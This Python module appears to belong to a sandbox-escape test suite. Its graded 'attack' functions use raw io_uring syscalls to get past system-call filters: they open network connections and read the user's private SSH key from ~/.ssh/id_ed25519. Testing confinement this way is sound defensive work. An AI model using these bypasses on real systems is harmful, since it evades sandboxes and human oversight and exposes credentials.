"""io_uring: work that the kernel does by itself, past every filter of calls."""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import struct
import time

from .base import Judge, Target, attack
from .machine import raw

_SETUP, _ENTER, _REGISTER = 425, 426, 427
_CONNECT, _SENDMSG, _OPENAT, _SOCKET = 16, 9, 18, 45


class Ring:
    """A ring with four places."""

    def __init__(self) -> None:
        told = ctypes.create_string_buffer(120)
        self.end = raw(_SETUP, 4, told)
        if self.end < 0:
            raise OSError(-self.end, "io_uring_setup")
        numbers = struct.unpack("=30I", told.raw)
        self._tail, self._mask, self._array = numbers[11], numbers[12], numbers[16]
        self._done = numbers[25]  # cqes: after head, tail, ring_mask, ring_entries, overflow
        size = max(self._array + 4 * 4, self._done + 16 * 8) + 4096
        self._ring = mmap.mmap(self.end, size, mmap.MAP_SHARED, offset=0)
        self._places = mmap.mmap(self.end, 4 * 64, mmap.MAP_SHARED, offset=0x10000000)

    def do(self, operation: int, end: int, address: int, length: int, offset: int = 0, flags: int = 0) -> int:
        """The result of one operation."""
        place = struct.pack("=BBHiQQII", operation, 0, 0, end, offset, address, length, flags)
        self._places[0:64] = place + bytes(64 - len(place))
        tail = struct.unpack_from("=I", self._ring, self._tail)[0]
        struct.pack_into("=I", self._ring, self._array + 4 * (tail & 3), 0)
        struct.pack_into("=I", self._ring, self._tail, tail + 1)
        entered = raw(_ENTER, self.end, 1, 0, 0, 0, 0)
        if entered < 0:
            return entered
        time.sleep(0.3)
        result: int = struct.unpack_from("=i", self._ring, self._done + 16 * (tail & 7) + 8)[0]
        return result


def _where(address: str) -> ctypes.Array[ctypes.c_char]:
    packed = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 443) + socket.inet_aton(address) + bytes(8)
    return ctypes.create_string_buffer(packed, 16)


@attack(Judge.PACKET, "io_uring: connect")
def connect(target: Target) -> str:
    where = _where(target.public)
    with socket.socket() as end:
        return str(Ring().do(_CONNECT, end.fileno(), ctypes.addressof(where), 0, offset=16))


@attack(Judge.PACKET, "io_uring: socket and connect")
def socket_and_connect(target: Target) -> str:
    where, ring = _where(target.public), Ring()
    end = ring.do(_SOCKET, socket.AF_INET, 0, 0, offset=socket.SOCK_STREAM)
    return f"{end}, {ring.do(_CONNECT, end, ctypes.addressof(where), 0, offset=16)}"


@attack(Judge.SECRET, "io_uring: open a hidden file", secret="ssh")
def openat(target: Target) -> bytes:
    path = ctypes.create_string_buffer(f"{target.world.home}/.ssh/id_ed25519".encode())
    end = Ring().do(_OPENAT, -100, ctypes.addressof(path), 0, flags=os.O_RDONLY)
    return os.read(end, 4096) if end >= 0 else f"errno {-end}".encode()


@attack(Judge.SURFACE, "io_uring: setup")
def setup(_: Target) -> str:
    end = raw(_SETUP, 4, ctypes.create_string_buffer(120))
    return f"errno {0 if end >= 0 else -end}"


@attack(Judge.SURFACE, "io_uring: registered operations without a ring")
def register(_: Target) -> str:
    return f"errno {-raw(_REGISTER, -1, 0, 0, 0)}"
